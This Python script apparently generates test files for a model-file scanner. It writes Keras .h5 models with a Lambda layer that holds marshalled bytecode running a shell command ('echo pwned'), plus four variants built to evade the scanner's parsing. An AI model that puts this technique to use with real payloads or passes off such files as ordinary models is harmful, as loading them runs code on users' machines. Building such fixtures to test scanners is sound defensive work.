"""Keras 2 .h5 bypasses (Lambda with marshalled bytecode in model_config). Written with h5py
(writing only); never loaded with Keras."""
import os
import codecs, json, marshal, h5py, numpy as np
O = os.path.dirname(os.path.abspath(__file__)) + "/"
fn = lambda x: (__import__("os").system("echo pwned"), x)[1]
raw = codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")
cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"}},
    {"class_name": "Lambda", "config": {"name": "l", "trainable": True, "dtype": "float32",
      "function": [raw, None, None], "function_type": "lambda", "module": "__main__",
      "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}]}}
def h5(name, config_str, **kw):
    with h5py.File(O + name, "w", **kw) as f:
        f.attrs["model_config"] = config_str
        f.attrs["keras_version"] = "2.15.0"; f.attrs["backend"] = "tensorflow"
        f.create_group("model_weights")
h5("h0_baseline.h5", json.dumps(cfg))
# H1: a 512-byte user block before the superblock: HDF5 finds the signature at 512, moat expects it at 0
h5("h1_userblock.h5", json.dumps(cfg), userblock_size=512)
# H2: NaN in the JSON (json.loads accepts it; serde_json does not)
c2 = json.loads(json.dumps(cfg)); c2["config"]["layers"][1]["config"]["x"] = float("nan")
h5("h2_nan.h5", json.dumps(c2))
# H3: fixed-length byte string attribute instead of a variable-length string
with h5py.File(O + "h3_fixed_bytes.h5", "w") as f:
    f.attrs.create("model_config", np.bytes_(json.dumps(cfg).encode()))
    f.create_group("model_weights")
# H4: many attributes -> dense attribute storage (fractal heap)
with h5py.File(O + "h4_dense_attrs.h5", "w", libver="latest") as f:
    for i in range(40): f.attrs[f"pad{i:02d}"] = "x" * 100
    f.attrs["model_config"] = json.dumps(cfg)
    f.create_group("model_weights")
print("ok")
